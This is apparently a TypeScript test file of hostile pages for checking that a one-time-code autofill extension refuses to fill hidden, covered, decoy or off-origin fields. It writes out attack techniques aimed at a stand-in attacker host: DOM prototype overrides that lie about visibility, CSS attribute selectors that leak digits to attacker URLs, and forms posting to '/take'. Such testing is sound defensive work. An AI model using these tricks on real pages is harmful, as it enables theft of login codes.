import type { Arena } from '../arena.ts';
import { type Attack, page } from '../attack.ts';
import { boxes } from '../pages.ts';
import { FORMS_ELSEWHERE } from './forms-elsewhere.ts';
import { BETWEEN_MATCH_AND_FILL } from './meanwhile.ts';
import { UNSEEN_FIELDS } from './unseen-fields.ts';

/** Lies of the page's own scripts about a field that cannot be seen. */
const LIES = `
  for (const [type, name, lie] of [
    [Element, 'getBoundingClientRect', () => ({ x: 10, y: 10, width: 200, height: 30, left: 10, top: 10 })],
    [Element, 'checkVisibility', () => true],
    [Element, 'matches', () => true],
    [Element, 'closest', () => null],
    [Document, 'elementFromPoint', () => document.getElementById('code')],
  ]) type.prototype[name] = lie;
  const truth = getComputedStyle;
  globalThis.getComputedStyle = (element) => truth(document.documentElement);
  for (const [type, name, lie] of [
    [HTMLFormElement, 'action', location.href],
    [HTMLInputElement, 'type', 'text'],
    [CSSStyleDeclaration, 'opacity', '1'],
    [Document, 'readyState', 'complete'],
    [Node, 'parentElement', null],
  ]) Object.defineProperty(type.prototype, name, { get: () => lie });`;

/** Waits until the code is in the field. */
const filled = (arena: Arena) =>
  arena.wait(() => document.querySelector<HTMLInputElement>('#code')?.value !== '');

const HARMLESS: Attack[] = [
  {
    from: 'in-page',
    name: 'clickjacking of the extension: the page looks for anything of its to cover',
    refusedBy: 'nothing of ours is there',
    yields: 'one code',
    play: async (arena) => {
      await arena.show({
        tells: false,
        script: `globalThis.seen = [];
          for (const type of ['submit', 'focus', 'focusin', 'click', 'message', 'keydown', 'scroll', 'animationstart', 'slotchange'])
            addEventListener(type, ({ target }) => target instanceof Element && seen.push(type), true);
          addEventListener('DOMContentLoaded', () => {
            globalThis.before = document.documentElement.outerHTML;
            new MutationObserver((changes) => seen.push(...changes.map(({ type }) => type)))
              .observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
          });`,
      });
      await filled(arena);
      const found = await arena.page.evaluate(() => {
        const { seen, before } = globalThis as unknown as { seen: string[]; before: string };
        const top = [...document.querySelectorAll('dialog, [popover]')].length;
        const sheets = document.adoptedStyleSheets.length + document.styleSheets.length - 1;
        const roots = [...document.querySelectorAll('*')].filter(({ shadowRoot }) => shadowRoot).length;
        const beside = document.documentElement.parentNode?.childNodes.length ?? 0;
        const changed = document.documentElement.outerHTML !== before;
        return { seen, top, sheets, roots, beside, changed, focused: document.activeElement?.tagName };
      });
      // The events of typing, and no others.
      const typing = ['focus', 'focusin', 'keydown'];
      const nothing = {
        seen: typing,
        top: 0,
        sheets: 0,
        roots: 0,
        beside: 2,
        changed: false,
        focused: 'BODY',
      };
      const same = JSON.stringify(found) === JSON.stringify(nothing);
      return same ? 'nothing of ours is there' : JSON.stringify(found);
    },
  },
  {
    from: 'in-page',
    name: 'a script of the page reads what was filled: cannot be prevented',
    refusedBy: 'filled',
    yields: 'one code',
    play: async (arena) => {
      const outcome = await arena.play({});
      await arena.until(async () => arena.attacker.loot().length > 0, 'the loot');
      return outcome;
    },
  },
  {
    from: 'in-page',
    name: 'decoys beside the field, that are no field for a code',
    refusedBy: 'filled',
    yields: 'one code',
    play: async (arena) => {
      const outcome = await arena.play({
        after: `<div>${boxes(7)}</div>
          <label>ワンタイムパスワード <input class="decoy" maxlength="8" style="display: none"></label>
          <label>ワンタイムパスワード <input class="decoy" maxlength="8" style="position: absolute; left: -999px"></label>
          <label>確認用パスワード <input class="decoy" maxlength="8"></label><input class="decoy" autocomplete="one-time-code">`,
      });
      const others = await arena.page.$$eval('input:not(#code)', (all) =>
        all.map(({ value }) => value).join(''),
      );
      return others === '' ? outcome : 'a decoy was filled';
    },
  },
  {
    from: 'in-page',
    name: 'focus, clicks, keys and input made by the page, to be filled again',
    // Emptied at once, the field gets the same code back, once.
    refusedBy: ['refused: field-changed', 'filled'],
    yields: 'one code',
    play: async (arena) => {
      await arena.show({});
      await filled(arena);
      await arena.forgetSteps();
      await arena.page.evaluate(() => {
        const field = document.querySelector<HTMLInputElement>('#code');
        if (!field) return;
        field.value = '';
        for (let time = 0; time < 50; time += 1) {
          field.focus();
          field.click();
          for (const type of ['pointerdown', 'keydown', 'input', 'change', 'focusin']) {
            field.dispatchEvent(new Event(type, { bubbles: true }));
          }
          field.blur();
        }
        document.body.classList.add('restless');
        dispatchEvent(new Event('load'));
      });
      return arena.settled();
    },
  },
  {
    from: 'in-page',
    name: 'styles that spy on the field, where scripts may not run',
    refusedBy: 'filled, the attacker asked for nothing',
    yields: 'one code',
    play: async (arena) => {
      const spies = Array.from(
        { length: 10 },
        (_none, digit) =>
          `#code[value^="${digit}"], #code[value*="${digit}"] { background: url(${arena.attacker.url(`/css-${digit}`)}) }`,
      );
      const outcome = await arena.play({ tells: false, style: spies.join('\n') });
      const asked = arena.attacker.received.map(({ url }) => url);
      return `${outcome}, the attacker asked for ${asked.length === 0 ? 'nothing' : asked.join(' ')}`;
    },
  },
  {
    from: 'in-page',
    name: 'traps in the page’s own prototypes, to catch the code on its way',
    refusedBy: 'filled, no trap sprung',
    yields: 'one code',
    play: async (arena) => {
      const outcome = await arena.play({
        tells: false,
        script: `globalThis.sprung = [];
          const trap = (type, name) => {
            const own = Object.getOwnPropertyDescriptor(type.prototype, name);
            const caught = (via) => function (...given) { sprung.push(name); return via.apply(this, given); };
            Object.defineProperty(type.prototype, name, own.value
              ? { ...own, value: caught(own.value) }
              : { ...own, ...(own.get && { get: caught(own.get) }), ...(own.set && { set: caught(own.set) }) });
          };
          for (const [type, ...names] of [
            [HTMLInputElement, 'value', 'type', 'form', 'labels', 'maxLength', 'setAttribute' in HTMLInputElement.prototype ? 'setSelectionRange' : 'value'],
            [EventTarget, 'dispatchEvent', 'addEventListener'], [Document, 'querySelectorAll', 'elementFromPoint', 'createTreeWalker'],
            [Element, 'matches', 'closest', 'getBoundingClientRect'], [Node, 'textContent', 'parentElement'], [HTMLFormElement, 'action'],
          ]) for (const name of names) trap(type, name);
          Promise.prototype.then = new Proxy(Promise.prototype.then, { apply(...a) { sprung.push('then'); return Reflect.apply(...a); } });`,
      });
      const sprung = await arena.page.evaluate(() => Reflect.get(globalThis, 'sprung').join(' '));
      return `${outcome}, ${sprung === '' ? 'no trap sprung' : `sprung: ${sprung}`}`;
    },
  },
  {
    from: 'in-page',
    name: 'the page loaded again and again, for code after code',
    refusedBy: ['waiting', 'filled'],
    yields: 'one code',
    play: async (arena) => {
      let outcome = '';
      for (let time = 0; time < 8; time += 1) {
        await arena.show({});
        outcome = await arena.settled();
      }
      return outcome;
    },
  },
];

const TRICKS: Attack[] = [
  page(
    'lies of the page’s own functions about a hidden field',
    { style: '#outer { opacity: 0 }', script: LIES },
    'unrecognised: field faded',
  ),
  page(
    'lies about where the form leads',
    (arena) => ({ action: arena.attacker.url('/take'), script: LIES }),
    'unrecognised: field off-origin',
  ),
  page(
    'elements called as the functions that would find a cover',
    {
      style: '#cover { position: fixed; inset: 0; background: white }',
      after:
        '<form name="elementFromPoint"></form><img name="querySelectorAll" alt=""><embed name="defaultView">',
    },
    ['unrecognised: screen', 'unrecognised: field covered'],
  ),
  page(
    'eight split boxes beside the field',
    { after: `<div>${boxes(8)}</div>` },
    'unrecognised: several-fields',
  ),
  page('split boxes: seven, of which no code is', { line: boxes(7) }),
  page('split boxes: six, and a code of eight digits', { line: boxes(6) }, 'refused: field-changed'),
  page(
    'split boxes: nine, the last one not seen',
    { line: boxes(9), style: '.box:last-of-type { opacity: 0 }' },
    'unrecognised: field faded',
  ),
  page(
    'split boxes: eight, the last one not seen',
    { line: boxes(8), style: '.box:last-of-type { opacity: 0 }' },
    'unrecognised: field faded',
  ),
  page(
    'split boxes: eight, one of them off the page',
    { line: boxes(8), style: '.box:last-of-type { position: absolute; left: -9999px }' },
    'unrecognised: field outside',
  ),
  page('split boxes: eight, and one that takes the whole code', {
    line: `${boxes(8)}<input name="all" aria-label="ワンタイムパスワード" style="opacity: 0">`,
  }),
  page('split boxes: eight, named by their group alone, and one that takes the whole code', {
    line: `<fieldset><legend>ワンタイムパスワード</legend>${boxes(8).replaceAll('aria-label="ワンタイムパスワード"', '')}<input name="all" maxlength="8" aria-label="ワンタイムパスワード"></fieldset>`,
  }),
  page('split boxes: eight, one of another form', (arena) => ({
    line: boxes(8, ' form="other"'),
    after: `<form id="other" action="${arena.attacker.url('/take')}"></form>`,
  })),
  page(
    'split boxes: eight, of a form that leads to another origin',
    (arena) => ({ line: boxes(8), action: arena.attacker.url('/take') }),
    'unrecognised: field off-origin',
  ),
  page('split boxes: eight, in which one has another name', {
    line: `<label for="first">ワンタイムパスワード</label>${boxes(8).replace('aria-label="ワンタイムパスワード"', 'aria-label="暗証番号"')}`,
  }),
  page(
    'two fields of one name, one of them far away',
    { after: '<p style="margin-top: 2000px"><input maxlength="8" aria-label="ワンタイムパスワード"></p>' },
    'unrecognised: several-fields',
  ),
  page(
    'a field put in place of itself all the time',
    {
      // By messages: the timers of a page that is busy come late, and a field that stands still meanwhile may be filled.
      script: `addEventListener('DOMContentLoaded', () => {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = () => {
          const field = document.getElementById('code');
          if (field.value === '') field.replaceWith(field.cloneNode());
          port2.postMessage('');
        };
        port2.postMessage('');
      });`,
    },
    ['refused: field-changed', 'waiting', 'asking'],
  ),
  page('a field of the right name that is no field', {
    line: '<label for="code">ワンタイムパスワード</label><textarea id="code" maxlength="8"></textarea>',
  }),
  page('a place to write in that is no field', {
    line: '<span id="name">ワンタイムパスワード</span><div contenteditable role="textbox" aria-labelledby="name" style="width: 200px; height: 30px"></div>',
  }),
];

export const IN_PAGE: readonly Attack[] = [
  ...UNSEEN_FIELDS,
  ...FORMS_ELSEWHERE,
  ...BETWEEN_MATCH_AND_FILL,
  ...TRICKS,
  ...HARMLESS,
];
